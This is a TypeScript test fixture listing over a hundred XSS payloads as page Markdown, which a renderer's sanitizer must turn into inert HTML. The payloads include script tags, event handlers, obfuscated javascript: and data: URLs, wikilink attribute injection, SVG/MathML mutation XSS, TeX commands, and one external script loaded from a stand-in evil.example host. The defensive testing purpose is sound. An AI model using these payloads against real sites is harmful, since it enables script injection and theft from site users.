/** XSS payloads fed to the renderer as page Markdown. Every one must render to inert HTML. */
export interface XssPayload {
  name: string;
  markdown: string;
}

const js = 'javascript:alert(1)';

export const xssCorpus: XssPayload[] = [
  // Script elements
  { name: 'script element', markdown: '<script>alert(1)</script>' },
  { name: 'external script, upper case', markdown: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'script inside markdown paragraph', markdown: 'Hello <script>alert(1)</script> world' },
  { name: 'script split by nested tag', markdown: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'double angle script', markdown: '<<script>script>alert(1)<</script>/script>' },

  // Event handlers
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'img ONERROR upper case', markdown: '<img src="x" ONERROR="alert(1)">' },
  { name: 'body onload', markdown: '<body onload=alert(1)>' },
  { name: 'div onclick', markdown: '<div onclick="alert(1)">click</div>' },
  { name: 'a onmouseover', markdown: '<a onmouseover="alert(1)">hover</a>' },
  { name: 'slash separated handler', markdown: '<p/onmouseover=alert(1)>x</p>' },
  { name: 'details ontoggle', markdown: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'input autofocus onfocus', markdown: '<input onfocus=alert(1) autofocus>' },
  { name: 'checkbox input with handler', markdown: '<input type="checkbox" onclick="alert(1)">' },
  { name: 'image input', markdown: '<input type="image" src="x" onerror="alert(1)">' },
  { name: 'video source onerror', markdown: '<video><source onerror="alert(1)"></video>' },
  { name: 'audio onerror', markdown: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'marquee onstart', markdown: '<marquee onstart=alert(1)>x</marquee>' },

  // javascript:/vbscript:/data: URLs in raw HTML links and images
  { name: 'a href javascript', markdown: `<a href="${js}">x</a>` },
  { name: 'a href JaVaScRiPt', markdown: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  {
    name: 'a href decimal entities',
    markdown: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    name: 'a href padded entities without semicolons',
    markdown:
      '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  },
  { name: 'a href hex entity and &colon;', markdown: '<a href="&#x6A;avascript&colon;alert(1)">x</a>' },
  { name: 'a href partial entity', markdown: '<a href="javas&#99;ript:alert(1)">x</a>' },
  { name: 'a href tab split', markdown: '<a href="java\tscript:alert(1)">x</a>' },
  { name: 'a href entity tab split', markdown: '<a href="java&#x09;script:alert(1)">x</a>' },
  { name: 'a href newline split', markdown: '<a href="java&#10;script:alert(1)">x</a>' },
  { name: 'a href leading space and control char', markdown: '<a href=" \u0001javascript:alert(1)">x</a>' },
  { name: 'a href vbscript', markdown: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'a href data:text/html',
    markdown: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  { name: 'a href data:image (not an img)', markdown: '<a href="data:image/png;base64,iVBORw0KGgo=">x</a>' },
  { name: 'img src javascript', markdown: `<img src="${js}">` },
  { name: 'img src data:text/html', markdown: '<img src="data:text/html,<script>alert(1)</script>">' },
  {
    name: 'img src data:image/svg+xml',
    markdown: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  },
  { name: 'img src spaced DATA:', markdown: '<img src=" DATA:text/html,x">' },
  { name: 'img srcset javascript', markdown: `<img srcset="${js} 1x">` },
  { name: 'xlink:href on a', markdown: `<a xlink:href="${js}">x</a>` },
  { name: 'data attribute URL', markdown: `<div data-url="${js}">x</div>` },

  // Markdown links, images, autolinks
  { name: 'markdown link javascript', markdown: `[x](${js})` },
  { name: 'markdown link upper case', markdown: '[x](JAVASCRIPT:alert(1))' },
  { name: 'markdown link entity colon', markdown: '[x](javascript&#58;alert(1))' },
  { name: 'markdown link angle destination', markdown: `[x](<${js}>)` },
  { name: 'markdown link percent-encoded', markdown: '[x](javascript%3Aalert(1))' },
  { name: 'markdown link vbscript', markdown: '[x](vbscript:msgbox(1))' },
  { name: 'markdown link data:text/html', markdown: '[x](data:text/html;base64,PHNjcmlwdD4=)' },
  { name: 'markdown image javascript', markdown: `![x](${js})` },
  { name: 'markdown image data:text/html', markdown: '![x](data:text/html;base64,PHNjcmlwdD4=)' },
  { name: 'reference link javascript', markdown: `[x][r]\n\n[r]: ${js}` },
  { name: 'autolink javascript', markdown: `<${js}>` },
  { name: 'autolink vbscript', markdown: '<vbscript:msgbox(1)>' },
  { name: 'autolink data', markdown: '<data:text/html,<script>alert(1)</script>>' },
  { name: 'bare javascript text', markdown: `Go to ${js} now` },
  { name: 'link title breaking quotes', markdown: '[x](https://example.com "a\\" onmouseover=\\"alert(1)")' },
  { name: 'image alt breaking quotes', markdown: '![" onerror="alert(1)](x.png)' },

  // Wikilinks (the XSS test resolves them naively: href = target)
  { name: 'wikilink javascript target', markdown: `[[${js}]]` },
  { name: 'wikilink JaVaScRiPt target with title', markdown: '[[click|JaVaScRiPt:alert(1)]]' },
  { name: 'wikilink entity-encoded target', markdown: '[[&#106;avascript:alert(1)]]' },
  { name: 'wikilink whitespace-split target', markdown: '[[ java\tscript:alert(1) ]]' },
  { name: 'wikilink attribute injection', markdown: '[[x" onmouseover="alert(1)|y]]' },
  { name: 'wikilink attribute injection in page', markdown: '[[y|x" onmouseover="alert(1)]]' },
  { name: 'wikilink HTML in target', markdown: '[[<img src=x onerror=alert(1)>]]' },
  { name: 'wikilink HTML in title', markdown: '[[<script>alert(1)</script>|Page]]' },
  { name: 'wikilink fragment injection', markdown: '[[Page#"><script>alert(1)</script>]]' },

  // SVG and MathML
  { name: 'svg onload', markdown: '<svg onload=alert(1)>' },
  { name: 'svg script', markdown: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg a xlink:href', markdown: `<svg><a xlink:href="${js}"><text x="0" y="20">x</text></a></svg>` },
  {
    name: 'svg animate href',
    markdown: `<svg><a><animate attributeName="href" values="${js}"/><text>x</text></a></svg>`,
  },
  {
    name: 'svg foreignObject',
    markdown: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  },
  { name: 'math href', markdown: `<math href="${js}"><mi>x</mi></math>` },
  {
    name: 'math maction xlink',
    markdown: `<math><maction actiontype="statusline" xlink:href="${js}">x</maction></math>`,
  },
  {
    name: 'math mglyph style mXSS',
    markdown:
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  { name: 'svg p style mXSS', markdown: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  {
    name: 'form math mglyph mXSS',
    markdown: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },

  // Styles
  { name: 'style element', markdown: `<style>body{background:url(${js})}</style>` },
  { name: 'style attribute url', markdown: `<div style="background:url(${js})">x</div>` },
  { name: 'style attribute expression', markdown: '<p style="width:expression(alert(1))">x</p>' },
  { name: 'table cell style', markdown: `<table><tr><td style="background:url(${js})">x</td></tr></table>` },
  { name: 'link stylesheet', markdown: `<link rel="stylesheet" href="${js}">` },

  // Embedding and navigation elements
  { name: 'iframe javascript', markdown: `<iframe src="${js}"></iframe>` },
  { name: 'iframe srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'object data', markdown: `<object data="${js}"></object>` },
  { name: 'embed src', markdown: `<embed src="${js}">` },
  { name: 'form action', markdown: `<form action="${js}"><button>x</button></form>` },
  { name: 'button formaction', markdown: `<button formaction="${js}">x</button>` },
  { name: 'isindex', markdown: `<isindex action="${js}" type="image">` },
  { name: 'base href', markdown: `<base href="${js}//">` },
  { name: 'meta refresh', markdown: `<meta http-equiv="refresh" content="0;url=${js}">` },

  // Broken / unclosed HTML and attribute breaking
  { name: 'unclosed img', markdown: '<img src=x onerror=alert(1)//' },
  { name: 'unclosed a', markdown: `<a href="${js}"` },
  {
    name: 'unterminated attribute quote',
    markdown: "<a href=\"https://x.example title='>' onclick=alert(1)>x</a>",
  },
  {
    name: 'attribute glued after quote',
    markdown: '<a href="https://x.example"onmouseover="alert(1)">x</a>',
  },
  { name: 'stray quote attributes', markdown: '<img src="x" alt="" onerror="alert(1)" "">' },
  { name: 'backtick attribute', markdown: '<img src=`x` onerror=alert(1)>' },
  { name: 'null byte in tag name', markdown: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },

  // Comments hiding scripts
  { name: 'comment around script', markdown: '<!-- <script>alert(1)</script> -->' },
  { name: 'abruptly closed comment', markdown: '<!--><script>alert(1)</script>-->' },
  { name: 'conditional comment', markdown: '<!--[if IE]><script>alert(1)</script><![endif]-->' },
  { name: 'bang-closed comment', markdown: '<!-- --!><img src=x onerror=alert(1)> -->' },

  // Mutation XSS classics
  { name: 'noscript title mXSS', markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'template content', markdown: '<template><img src=x onerror=alert(1)></template>' },
  {
    name: 'textarea title mXSS',
    markdown: '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  },
  { name: 'xmp mXSS', markdown: '<xmp><img title="</xmp><img src=x onerror=alert(1)>">' },
  { name: 'title mXSS', markdown: '<title><img title="</title><img src=x onerror=alert(1)>">' },
  { name: 'iframe text mXSS', markdown: '<iframe><img title="</iframe><img src=x onerror=alert(1)>">' },
  { name: 'noembed mXSS', markdown: '<noembed><img title="</noembed><img src=x onerror=alert(1)>">' },

  // Frontmatter-like and other Markdown contexts
  {
    name: 'frontmatter-like block',
    markdown:
      '---\ntitle: "<script>alert(1)</script>"\nonload: alert(1)\nlink: javascript:alert(1)\n---\n# x',
  },
  { name: 'heading with HTML', markdown: '# <img src=x onerror=alert(1)> title' },
  { name: 'table cell link', markdown: `| a |\n|---|\n| [x](${js}) <img src=x onerror=alert(1)> |` },
  {
    name: 'footnote label HTML',
    markdown: '[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: note',
  },
  { name: 'footnote body HTML', markdown: `x[^1]\n\n[^1]: <a href="${js}">y</a>` },
  { name: 'alert title HTML', markdown: '> [!NOTE] <img src=x onerror=alert(1)>\n> body' },
  { name: 'task list item HTML', markdown: '- [ ] <img src=x onerror=alert(1)>' },
  { name: 'code fence language injection', markdown: '```"><img src=x onerror=alert(1)>\nx\n```' },
  {
    name: 'mermaid fence with HTML',
    markdown: '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]\n```',
  },
  { name: 'highlighted fence with HTML', markdown: '```html\n<script>alert(1)</script>\n```' },

  // Math
  { name: 'math \\href javascript', markdown: String.raw`$\href{javascript:alert(1)}{x}$` },
  { name: 'math \\url javascript', markdown: String.raw`$\url{javascript:alert(1)}$` },
  { name: 'math \\htmlData handler', markdown: String.raw`$\htmlData{onload=alert(1)}{x}$` },
  {
    name: 'math \\htmlStyle url',
    markdown: String.raw`$$\htmlStyle{background:url(javascript:alert(1))}{x}$$`,
  },
  { name: 'math \\includegraphics', markdown: String.raw`$\includegraphics{javascript:alert(1)}$` },
  { name: 'math with HTML', markdown: '$<img src=x onerror=alert(1)>$' },
  { name: 'math \\text with script', markdown: String.raw`$\text{<script>alert(1)</script>}$` },
  { name: 'broken TeX with HTML', markdown: '$\\frac{<img src=x onerror=alert(1)>$' },
  {
    name: 'math in image alt and link text',
    markdown: '![$x$ " onerror="alert(1)](a.png) [$y$](https://example.com "$z$")',
  },
  { name: 'math placeholder forgery', markdown: '$x$ \u0000M0\u0000 &#0;M0&#0; <span>&#0;M0&#0;</span>' },
];
